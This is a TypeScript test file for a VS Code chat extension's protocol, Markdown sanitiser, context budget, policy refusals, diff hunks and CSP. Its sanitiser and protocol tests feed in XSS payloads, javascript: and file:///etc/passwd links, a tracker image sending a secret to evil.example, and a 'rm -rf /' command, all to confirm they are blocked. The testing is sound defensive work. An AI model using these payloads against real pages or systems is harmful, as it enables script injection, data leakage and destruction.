/**
 * Chat's pure parts: the webview protocol (both directions), the Markdown pipeline's neutralising of hostile
 * model output, the context budget (what is cut, and that the cut is visible), the line hunks behind "Apply to
 * file", the page's CSP, and that the ROI aggregates count chat turns beside completions.
 */
import * as assert from 'node:assert/strict';
import { buildChatPrompt, conversationTranscript, fenceFor, userMessage } from '../../src/common/chat/chatPrompt';
import { cutMarker, estimateTokens, planBudget } from '../../src/common/chat/contextBudget';
import { contextRefusal } from '../../src/common/chat/contextRefusal';
import { combinePolicies } from '../../src/common/policy/combinePolicies';
import { parsePolicyText } from '../../src/common/policy/parsePolicy';
import { DEFAULT_USER_POLICY } from '../../src/common/policy/userPolicy';
import { applyHunks, lineHunks } from '../../src/common/chat/lineDiff';
import { isSafeHref, renderMarkdown, SANITIZE_CONFIG } from '../../src/common/chat/markdown';
import { aggregate, DEFAULT_COST_MODEL } from '../../src/common/ledger/ledgerAggregates';
import type { LedgerRecord } from '../../src/common/ledger/ledgerRecord';
import { chatToHostSchema, hostToChatSchema, type Conversation } from '../../src/common/protocol/chatProtocol';
import { chatCsp, chatHtml } from '../../src/vscode/chat/chatHtml';

const conversation: Conversation = {
  id: 'c1',
  title: 'Adding numbers',
  createdAt: '2026-01-01T00:00:00.000Z',
  updatedAt: '2026-01-01T00:00:01.000Z',
  messages: [
    { id: 'm1', role: 'user', text: 'How do I add?', time: '2026-01-01T00:00:00.000Z', status: 'done', chips: [{ id: 'k1', kind: 'file', label: 'src/a.ts', path: 'src/a.ts', languageId: 'typescript', tokens: 10, includedTokens: 10 }] },
    { id: 'm2', role: 'assistant', text: '```ts\nconst x = 1 + 2;\n```', time: '2026-01-01T00:00:01.000Z', status: 'done', source: { kind: 'local', model: 'tiny' }, taskId: 't1', tokensIn: 40, tokensOut: 9, latencyMs: 120 },
    { id: 'm3', role: 'assistant', text: 'Use +.', time: '2026-01-01T00:00:02.000Z', status: 'done', source: { kind: 'escalation', endpointId: 'e', destination: 'frontier', model: 'gpt', costUsd: 0.0012, redactions: 1 } },
  ],
};

/** What crosses postMessage is structured-cloned: parse the JSON form, as the other side sees it. */
const roundTrip = (v: unknown) => JSON.parse(JSON.stringify(v)) as unknown;

describe('chat protocol', () => {
  it('accepts every message the host sends, in JSON form', () => {
    const messages = [
      { type: 'state', conversations: [{ id: 'c1', title: 't', updatedAt: 'x', messages: 3 }], current: conversation, busy: false, model: 'tiny', escalation: true },
      { type: 'delta', conversationId: 'c1', messageId: 'm2', text: 'abc' },
      { type: 'context', chips: conversation.messages[0]!.chips, budget: { contextSize: 2048, reserved: 512, used: 100, droppedTurns: 0 } },
      { type: 'notice', level: 'warning', text: 'careful' },
      { type: 'draft', text: 'again' },
    ];
    for (const m of messages) assert.ok(hostToChatSchema.safeParse(roundTrip(m)).success, JSON.stringify(m).slice(0, 80));
  });

  it('accepts the page\'s messages and refuses malformed or unknown ones', () => {
    const good = [
      { type: 'ready' }, { type: 'send', text: 'hi' }, { type: 'stop' }, { type: 'regenerate' }, { type: 'editResend', messageId: 'm1', text: 'x' },
      { type: 'codeAction', action: 'apply', code: 'x', language: 'ts' }, { type: 'feedback', messageId: 'm2', value: 'down' },
      { type: 'flagIncident', messageId: 'm2', category: 'tool-misuse' }, { type: 'escalate' }, { type: 'addContext', kind: 'atFile' },
      { type: 'removeContext', id: 'k1' }, { type: 'draft', text: '' }, { type: 'renameConversation', id: 'c1' },
    ];
    for (const m of good) assert.ok(chatToHostSchema.safeParse(roundTrip(m)).success, JSON.stringify(m));
    const bad = [
      { type: 'send', text: '' },
      { type: 'flagIncident', messageId: 'm2', category: 'other' },
      { type: 'codeAction', action: 'run', code: 'rm -rf /', language: 'sh' },
      { type: 'addContext', kind: 'clipboard' },
      { type: 'feedback', messageId: '', value: 'up' },
      { type: 'eval', code: '1' },
      'ready',
      null,
    ];
    for (const m of bad) assert.equal(chatToHostSchema.safeParse(m).success, false, JSON.stringify(m));
  });

  it('refuses a state whose conversation is malformed', () => {
    const broken = roundTrip({ type: 'state', conversations: [], current: { ...conversation, messages: [{ id: 'x', role: 'system', text: '', time: '', status: 'done' }] }, busy: false, model: null, escalation: false });
    assert.equal(hostToChatSchema.safeParse(broken).success, false);
  });
});

describe('chat markdown (model output is untrusted)', () => {
  const html = (md: string) => renderMarkdown(md).html;

  it('prints raw HTML as text: no script, style, iframe or event handler survives as markup', () => {
    const out = html('Hi <script>alert(1)</script> <img src=x onerror="alert(2)"> <iframe src="https://evil.example"></iframe>\n\n<div onclick="steal()">x</div>\n\n<style>body{display:none}</style>');
    assert.doesNotMatch(out, /<script|<img|<iframe|<style|<div/i);
    assert.doesNotMatch(out, /<[^>]+\son\w+=/i, 'an event handler attribute reached the markup');
    assert.match(out, /&lt;script&gt;alert\(1\)&lt;\/script&gt;/);
  });

  it('turns javascript:, data: and other non-http links into plain text', () => {
    for (const href of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html;base64,PHNjcmlwdD4=', 'vbscript:x', 'file:///etc/passwd', 'command:workbench.action.terminal.new']) {
      const out = html(`[click](${href})`);
      assert.doesNotMatch(out, /<a /, `${href} stayed a link: ${out}`);
      // Either marked saw a link (then it is struck through as removed) or it never parsed one (plain text).
      assert.ok(/unsafe-link/.test(out) || out.includes(`[click](${href})`), out);
    }
    assert.match(html('[docs](https://example.com/a?b=1)'), /<a href="https:\/\/example\.com\/a\?b=1">docs<\/a>/);
    assert.equal(isSafeHref('https://ex\u0000ample.com'), false, 'control characters inside a URL');
    assert.equal(isSafeHref('mailto:a@b.c'), true);
  });

  it('never emits an image: a remote image would call home from the page', () => {
    const out = html('![tracker](https://evil.example/pixel.png?secret=1) and ![x](data:image/png;base64,AAAA)');
    assert.doesNotMatch(out, /<img/i);
    assert.match(out, /\[image: tracker\]/);
  });

  it('escapes code and lists code blocks for the actions, with a clean language tag', () => {
    const { html: out, blocks } = renderMarkdown('Try:\n\n```ts" onmouseover="x\nconst a = "<b>";\n```\n\n```\nplain\n```');
    assert.equal(blocks.length, 2);
    assert.equal(blocks[0]!.code, 'const a = "<b>";');
    assert.equal(blocks[0]!.language, 'ts');
    assert.equal(blocks[1]!.language, '');
    assert.match(out, /&lt;b&gt;/);
    assert.match(out, /<pre class="code-block cb-0"><code>/);
    assert.doesNotMatch(out, /onmouseover/);
  });

  it('configures DOMPurify (the second layer) to forbid scripts, images, styles, handlers and non-http URIs', () => {
    for (const t of ['script', 'img', 'style', 'iframe', 'svg', 'form']) assert.ok((SANITIZE_CONFIG.FORBID_TAGS as readonly string[]).includes(t), t);
    for (const t of ['script', 'img', 'style', 'iframe']) assert.ok(!(SANITIZE_CONFIG.ALLOWED_TAGS as readonly string[]).includes(t), t);
    assert.ok(!(SANITIZE_CONFIG.ALLOWED_ATTR as readonly string[]).some((a) => a.startsWith('on') || a === 'src' || a === 'style'));
    assert.equal(SANITIZE_CONFIG.ALLOW_DATA_ATTR, false);
    assert.ok(!SANITIZE_CONFIG.ALLOWED_URI_REGEXP.test('javascript:alert(1)'));
    assert.ok(SANITIZE_CONFIG.ALLOWED_URI_REGEXP.test('https://example.com'));
  });
});

describe('chat context budget', () => {
  const base = { contextSize: 1000, reserve: 300, system: 'sys', history: [], question: 'Why?' };

  it('keeps what fits whole', () => {
    const plan = planBudget({ ...base, chips: [{ id: 'a', text: 'x'.repeat(350) }] });
    assert.deepEqual(plan.chips.map((c) => [c.tokens, c.includedTokens]), [[100, 100]]);
    assert.equal(plan.overflow, false);
    assert.ok(plan.used <= 700);
  });

  it('cuts a chip that does not fit, keeps its head and marks the cut in the text', () => {
    const text = 'HEAD' + 'y'.repeat(7000);
    const plan = planBudget({ ...base, chips: [{ id: 'a', text }] });
    const c = plan.chips[0]!;
    assert.equal(c.tokens, estimateTokens(text));
    assert.ok(c.includedTokens > 0 && c.includedTokens < c.tokens, `included ${c.includedTokens} of ${c.tokens}`);
    assert.ok(c.text.startsWith('HEAD'));
    assert.match(c.text, /cut by Hearth: about \d+ more tokens/);
    assert.ok(plan.used <= 700, `used ${plan.used} of 700`);
    assert.ok(cutMarker(5).includes('5'));
  });

  it('leaves out a chip once nothing useful fits, and never includes a refused one', () => {
    const plan = planBudget({ ...base, chips: [{ id: 'a', text: 'a'.repeat(2380) }, { id: 'b', text: 'b'.repeat(700) }, { id: 'c', text: 'secret', refused: true }] });
    assert.equal(plan.chips[0]!.includedTokens, 680);
    assert.equal(plan.chips[1]!.includedTokens, 0);
    assert.equal(plan.chips[1]!.text, '');
    assert.equal(plan.chips[2]!.includedTokens, 0);
    assert.equal(plan.chips[2]!.text, '');
  });

  it('drops the oldest turns first, in whole question-and-answer pairs, and counts them', () => {
    const history = Array.from({ length: 10 }, (_, i) => ({ role: (i % 2 ? 'assistant' : 'user') as 'user' | 'assistant', content: `${i} ` + 'z'.repeat(350) }));
    const plan = planBudget({ ...base, chips: [], history });
    assert.ok(plan.droppedTurns > 0 && plan.droppedTurns < 10);
    assert.equal(plan.droppedTurns % 2, 0);
    assert.equal(plan.history[0]!.role, 'user');
    assert.equal(plan.history.at(-1)!.content, history.at(-1)!.content);
  });

  it('reports a question too long for the context', () => {
    assert.equal(planBudget({ ...base, question: 'q'.repeat(5000), chips: [] }).overflow, true);
  });

  it('builds the engine messages: system, kept turns, then context and question', () => {
    const { messages } = buildChatPrompt({
      contextSize: 2048, reserve: 512, question: 'Explain', history: [{ role: 'user', content: 'hi' }, { role: 'assistant', content: 'hello' }],
      chips: [{ id: 'a', text: 'const a = 1;', label: 'src/a.ts', languageId: 'typescript' }],
    });
    assert.deepEqual(messages.map((m) => m.role), ['system', 'user', 'assistant', 'user']);
    assert.equal(messages[3]!.content, 'src/a.ts:\n```typescript\nconst a = 1;\n```\n\nExplain');
    assert.equal(fenceFor('a ```` b'), '`````');
    assert.equal(userMessage('q', []), 'q');
    assert.equal(conversationTranscript([{ role: 'user', content: 'a' }, { role: 'assistant', content: 'b ' }]), 'User:\na\n\nAssistant:\nb');
  });
});

describe('chat context and the policy', () => {
  it('refuses a neverSend file as context, naming the rule and where it comes from', () => {
    const parsed = parsePolicyText('{ "version": 1, "neverSend": ["**/secrets/**"] }');
    assert.ok(parsed.ok);
    const policy = combinePolicies({ ...DEFAULT_USER_POLICY, neverSend: ['**/.env*'] }, parsed.policy);
    assert.match(contextRefusal(policy, 'config/secrets/keys.ts') ?? '', /config\/secrets\/keys\.ts matches neverSend pattern "\*\*\/secrets\/\*\*" in \.hearth\/policy\.jsonc/);
    assert.match(contextRefusal(policy, '.env.local') ?? '', /neverSend pattern "\*\*\/\.env\*" in your settings \(hearth\.escalation\.neverSend\)/);
    assert.equal(contextRefusal(policy, 'src/main.ts'), undefined);
  });
});

describe('apply to file: line hunks', () => {
  const cases: Array<[string, string]> = [
    ['a\nb\nc\n', 'a\nB\nc\n'],
    ['a\nb\nc', 'a\nc'],
    ['a\nb', 'a\nb\nc\nd'],
    ['', 'x\ny\n'],
    ['one\ntwo\nthree\nfour\nfive\n', 'zero\none\nthree\nfour!\nfive\nsix\n'],
    ['same\n', 'same\n'],
  ];
  for (const [from, to] of cases) {
    it(`turns ${JSON.stringify(from)} into ${JSON.stringify(to)}`, () => {
      const hunks = lineHunks(from, to);
      assert.equal(applyHunks(from, hunks), to);
      if (from === to) assert.equal(hunks.length, 0);
    });
  }

  it('splits separate changes into separate hunks (each reviewed on its own)', () => {
    const from = Array.from({ length: 20 }, (_, i) => `line ${i}`).join('\n');
    const to = from.replace('line 2', 'LINE 2').replace('line 15', 'LINE 15');
    const hunks = lineHunks(from, to);
    assert.equal(hunks.length, 2);
    assert.deepEqual(hunks.map((h) => [h.oldStart, h.oldLines, h.newLines]), [[2, 1, ['LINE 2']], [15, 1, ['LINE 15']]]);
  });
});

describe('chat page and ledger', () => {
  it('serves the page under a strict CSP: nonce-tagged script only, no remote anything', () => {
    const csp = chatCsp('vscode-resource:', 'N0NCE');
    assert.match(csp, /^default-src 'none';/);
    assert.match(csp, /script-src 'nonce-N0NCE';/);
    assert.match(csp, /img-src vscode-resource:;/);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|https?:|\*/);
    const page = chatHtml({ cspSource: 'vscode-resource:', nonce: 'N0NCE', script: 'chat.js', css: 'chat.css' });
    const scripts = page.match(/<script[^>]*>/g) ?? [];
    assert.equal(scripts.length, 1);
    assert.match(scripts[0]!, /nonce="N0NCE"/);
    assert.doesNotMatch(page, /\son\w+="/, 'inline event handlers would need unsafe-inline');
  });

  it('counts chat turns in the ROI aggregates beside completions', () => {
    const rec = (i: number, lane: 'chat' | 'completion', outcome: 'accepted' | 'rejected'): LedgerRecord => ({
      kind: 'task', schemaVersion: 1, id: `r${i}`, seq: i, time: '2026-01-05T10:00:00.000Z', workspace: 'ws-1', lane, model: 'tiny',
      prevHash: '0'.repeat(64), tokensIn: 100, tokensOut: 20, totalMs: 500, outcome, destination: 'local',
    });
    const aggs = aggregate([rec(0, 'chat', 'accepted'), rec(1, 'chat', 'accepted'), rec(2, 'completion', 'rejected')], DEFAULT_COST_MODEL);
    const chat = aggs.groups.find((g) => g.lane === 'chat' && g.model === '*' && g.week === '*')!;
    const all = aggs.groups.find((g) => g.lane === '*' && g.model === '*' && g.week === '*')!;
    assert.equal(chat.tasks, 2);
    assert.equal(all.tasks, 3);
  });
});
